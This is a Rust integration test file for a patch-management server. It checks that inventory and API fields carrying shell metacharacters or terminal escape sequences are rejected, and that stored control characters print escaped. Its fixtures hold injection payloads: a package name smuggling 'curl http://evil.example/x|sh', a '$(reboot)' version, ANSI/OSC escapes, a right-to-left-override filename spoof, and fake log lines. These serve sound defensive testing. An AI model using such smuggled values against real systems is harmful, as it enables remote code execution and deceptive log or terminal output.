//! Security issue, holes 4 and 7: shell injection through package names and
//! terminal/log injection through identifiers. Agents' reports and API bodies
//! are held to each field's rules at the boundary (400 naming the field,
//! nothing stored), and what the CLI prints of stored values is escaped.

use crate::support::{Server, minbase_before, ok};
use patchbay_client::{Client, HttpError};
use patchbay_core::inventory::{HostFacts, Inventory, OsRelease, Package, PackageFormat, dpkg};
use patchbay_proto::agent::EnrollResponse;
use patchbay_proto::api::AssetDetail;
use std::time::Duration;

fn enrol(s: &Server, host: &str, machine_id: &str) -> Result<EnrollResponse, HttpError> {
    Client::new(&s.url, None, Duration::from_secs(30)).send(
        "POST",
        "/agent/v1/enroll",
        &serde_json::json!({"protocol": 1, "enroll_token": s.enroll_token(1), "hostname": host,
                            "machine_id": machine_id}),
    )
}

fn status_and_message(e: &HttpError) -> (u16, String) {
    match e {
        HttpError::Api {
            status, message, ..
        } => (*status, message.clone()),
        _ => panic!("not an API error: {e}"),
    }
}

fn inventory(packages: Vec<Package>) -> Inventory {
    let mut inv = Inventory {
        facts: HostFacts {
            hostname: "proto-host".into(),
            machine_id: "0123abcd".into(),
            os: OsRelease {
                id: "debian".into(),
                version_id: "12".into(),
                ..Default::default()
            },
            ..Default::default()
        },
        format: Some(PackageFormat::Deb),
        packages,
        pending_updates: vec![],
    };
    inv.normalize();
    inv
}

use crate::support::full_checkin as full;

fn package_names_with_shell_metacharacters_are_refused_and_store_nothing(backend: &str) {
    let s = Server::start(backend);
    let e = enrol(&s, "proto-host", "0123abcd").unwrap();
    let agent = s.client(Some(&e.agent_secret));
    let base = dpkg::parse_status(&minbase_before()).unwrap();
    let good = inventory(base.clone());
    full(&agent, &good).unwrap();

    let evil = |name: &str, version: &str| {
        let mut ps = base.clone();
        ps.push(Package {
            name: name.into(),
            version: version.into(),
            arch: "amd64".into(),
            source: None,
            source_version: None,
        });
        inventory(ps)
    };
    let name = "libssl3;curl http://evil.example/x|sh;#";
    let err = full(&agent, &evil(name, "3.0.17-1~deb12u3")).unwrap_err();
    let (status, msg) = status_and_message(&err);
    assert_eq!(status, 400, "{msg}");
    assert!(
        msg.contains("libssl3;curl") && msg.contains("Debian Policy"),
        "{msg}"
    );
    let err = full(&agent, &evil("libssl3", "3.0.17-1$(reboot)")).unwrap_err();
    let (status, msg) = status_and_message(&err);
    assert_eq!(status, 400, "{msg}");
    assert!(msg.contains("invalid version"), "{msg}");

    // Nothing of either was stored.
    let d: AssetDetail = s.admin().get("/api/v1/assets/proto-host").unwrap();
    assert_eq!(d.packages.len(), base.len());
    assert!(
        d.packages
            .iter()
            .all(|p| !p.name.contains(';') && !p.version.contains('$'))
    );
    assert_eq!(
        d.inventory_hash.as_deref(),
        Some(good.content_hash().as_str())
    );

    // Imported (agentless) packages cannot carry shell metacharacters either.
    let e = s
        .admin()
        .send::<_, serde_json::Value>(
            "POST",
            "/api/v1/assets/import",
            &serde_json::json!([{"name": "fw-1", "packages": [{"name": "pan-os;id", "version": "11.1"}]}]),
        )
        .unwrap_err();
    assert_eq!(status_and_message(&e).0, 400);
    assert!(s.admin().get::<AssetDetail>("/api/v1/assets/fw-1").is_err());
}

fn escape_sequences_in_identifiers_are_refused_at_the_api(backend: &str) {
    let s = Server::start(backend);
    // Host names and machine ids at enrolment.
    for (host, mid, field) in [
        ("evil\u{1b}]0;pwned\u{7}", "ab01", "hostname"),
        ("web-1\nFAKE LINE", "ab01", "hostname"),
        ("web-1\0", "ab01", "hostname"),
        ("web-1", "ab\u{1b}[2J", "machine_id"),
    ] {
        let e = enrol(&s, host, mid).unwrap_err();
        let (status, msg) = status_and_message(&e);
        assert_eq!(status, 400, "{host:?} {mid:?}: {msg}");
        assert!(msg.starts_with(field), "{msg}");
    }
    // Token names (API and enrolment tokens).
    for (path, body) in [
        (
            "/api/v1/tokens",
            serde_json::json!({"name": "ci\u{1b}[2Jbot", "role": "auditor"}),
        ),
        (
            "/api/v1/tokens",
            serde_json::json!({"name": "ci\nbot", "role": "auditor"}),
        ),
        (
            "/api/v1/tokens",
            serde_json::json!({"name": "x".repeat(129), "role": "auditor"}),
        ),
        (
            "/api/v1/enroll-tokens",
            serde_json::json!({"name": "fleet\u{1b}[31m"}),
        ),
        (
            "/api/v1/enroll-tokens",
            serde_json::json!({"name": "fleet\u{202e}gpj.exe"}),
        ),
        (
            "/api/v1/blackouts",
            serde_json::json!({"name": "freeze", "start": "2030-01-01", "end": "2030-01-02",
                               "reason": "quarter end\u{1b}[2J", "owner": "cab"}),
        ),
    ] {
        let e = s
            .admin()
            .send::<_, serde_json::Value>("POST", path, &body)
            .unwrap_err();
        let (status, msg) = status_and_message(&e);
        assert_eq!(status, 400, "{body}: {msg}");
        assert!(
            msg.starts_with("name:") || msg.starts_with("reason:"),
            "{msg}"
        );
    }
    // Host names and machine ids at check-in.
    let e = enrol(&s, "proto-host", "0123abcd").unwrap();
    let agent = s.client(Some(&e.agent_secret));
    let mut inv = inventory(vec![]);
    inv.facts.hostname = "proto-host\u{1b}[31m".into();
    let (status, msg) = status_and_message(&full(&agent, &inv).unwrap_err());
    assert_eq!(status, 400, "{msg}");
    assert!(msg.contains("facts.hostname"), "{msg}");
    let mut inv = inventory(vec![]);
    inv.facts.machine_id = "0123abcd\n".into();
    let (status, msg) = status_and_message(&full(&agent, &inv).unwrap_err());
    assert_eq!(status, 400, "{msg}");
    assert!(msg.contains("facts.machine_id"), "{msg}");

    // Nothing was stored: one asset, no such token.
    let list: patchbay_proto::api::List<serde_json::Value> =
        s.admin().get("/api/v1/assets").unwrap();
    assert_eq!(list.items.len(), 1);
    let tokens: Vec<serde_json::Value> =
        serde_json::from_str(&ok(&s.cli(&["tokens", "list", "--format", "json"]))).unwrap();
    assert_eq!(tokens.len(), 1, "{tokens:?}");
}

fn stored_control_characters_print_escaped_in_audit_list_and_assets_show(backend: &str) {
    let s = Server::start(backend);
    let e = enrol(&s, "proto-host", "0123abcd").unwrap();
    full(&s.client(Some(&e.agent_secret)), &inventory(vec![])).unwrap();
    // Values written before the boundary checked them (or by any path that
    // does not): put them in the database directly.
    let esc = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31m";
    let sql = |q: String| crate::support::db_exec(&s.db_url, &q);
    sql(format!(
        "UPDATE assets SET hostname = 'host{esc}\nFAKE: line', kernel = 'k\rx' WHERE name = 'proto-host'"
    ));
    sql(format!(
        "UPDATE api_tokens SET name = 'admin{esc}' WHERE id = 1"
    ));
    // An audited action under the renamed token writes it into the trail.
    ok(&s.cli(&["assets", "set", "proto-host", "--owner", "noc"]));

    let shown = s.cli(&["assets", "show", "proto-host"]);
    let out = ok(&shown);
    assert!(
        !shown.stdout.contains(&0x1b),
        "raw ESC in assets show: {out:?}"
    );
    assert!(!shown.stdout.contains(&0x07));
    assert!(!shown.stdout.contains(&b'\r'));
    assert!(
        out.contains("host\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m\\nFAKE: line"),
        "{out}"
    );
    assert!(!out.lines().any(|l| l.starts_with("FAKE")), "{out}");

    let listed = s.cli(&["audit", "list"]);
    let out = ok(&listed);
    assert!(
        !listed.stdout.contains(&0x1b),
        "raw ESC in audit list: {out:?}"
    );
    assert!(!listed.stdout.contains(&0x07));
    assert!(out.contains("token:1:admin\\x1b]0;owned\\x07"), "{out}");
    // JSON output carries the value as it is (escaped by JSON itself).
    let json = ok(&s.cli(&["audit", "list", "--format", "json"]));
    assert!(
        !json.contains('\u{1b}') && json.contains("\\u001b"),
        "{json}"
    );
}

crate::both_backends!(
    package_names_with_shell_metacharacters_are_refused_and_store_nothing,
    escape_sequences_in_identifiers_are_refused_at_the_api,
    stored_control_characters_print_escaped_in_audit_list_and_assets_show,
);
